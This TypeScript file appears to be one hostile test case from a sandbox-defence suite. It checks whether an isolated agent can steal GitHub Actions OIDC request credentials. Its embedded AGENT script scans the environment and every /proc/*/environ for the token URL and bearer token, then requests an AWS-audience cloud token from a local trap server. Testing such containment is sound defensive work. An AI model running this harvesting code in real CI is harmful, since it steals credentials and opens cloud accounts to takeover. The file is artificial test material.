import { spawn } from 'node:child_process';
import { type HostileCase, judge } from '../case.ts';
import { withEnvironment } from '../kit/environment.ts';
import { runInside } from '../kit/inside.ts';
import { startTrap } from '../kit/trap.ts';

/** Finds the request's address and token wherever they are, and asks for a token of the cloud. */
const AGENT = `
const fs = require('node:fs');
const texts = [Object.entries(process.env).map((pair) => pair.join('=')).join('\\0')];
for (const name of fs.readdirSync('/proc')) try { texts.push(fs.readFileSync('/proc/' + name + '/environ', 'latin1')); } catch {}
const all = texts.join('\\0').split('\\0');
const find = (name) => all.find((each) => each.startsWith(name + '='))?.slice(name.length + 1);
const [, guessed] = process.argv.slice(2);
const url = find('ACTIONS_ID_TOKEN_REQUEST_URL') ?? guessed;
const token = find('ACTIONS_ID_TOKEN_REQUEST_TOKEN');
console.log('looked', token);
fetch(url + '&audience=sts.amazonaws.com', { headers: { authorization: 'bearer ' + token } })
  .then((answer) => answer.text())
  .then((text) => console.log(text), () => 0);
`;

export const hostile: HostileCase = {
  number: 11,
  title: 'The agent asks GitHub for a token of the cloud in the name of the job',
  area: 'trigger',
  lanes: ['userns', 'root'],
  async attack(place, defence) {
    const minted = place.secret('a token of the cloud');
    const request = place.secret('the right to ask');
    const issuer = await startTrap(place, ({ headers }, response) => {
      if (headers.authorization !== `bearer ${request}`) response.writeHead(401).end();
      else response.end(JSON.stringify({ value: minted }));
    });
    const url = `${issuer.url}/token?api-version=2.0`;
    const env = { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: request };
    const step = spawn('/bin/sleep', ['60'], { env, stdio: 'ignore' });
    place.after(() => step.kill('SIGKILL'));
    const options = { source: AGENT, args: [url] };
    const run = await withEnvironment(env, () => runInside(place, defence, options));
    if (!run.out.includes('looked')) throw new Error(`It did not run: ${run.err}`);
    const found = new Set(place.scan({ out: run.out, err: run.err }).map(({ secret }) => secret));
    return judge(defence, {
      'the right to ask': found.has('the right to ask') ? 'read' : null,
      'the way to ask': issuer.caught(),
      'a token of the cloud': found.has('a token of the cloud') ? 'was given' : null,
    });
  },
};
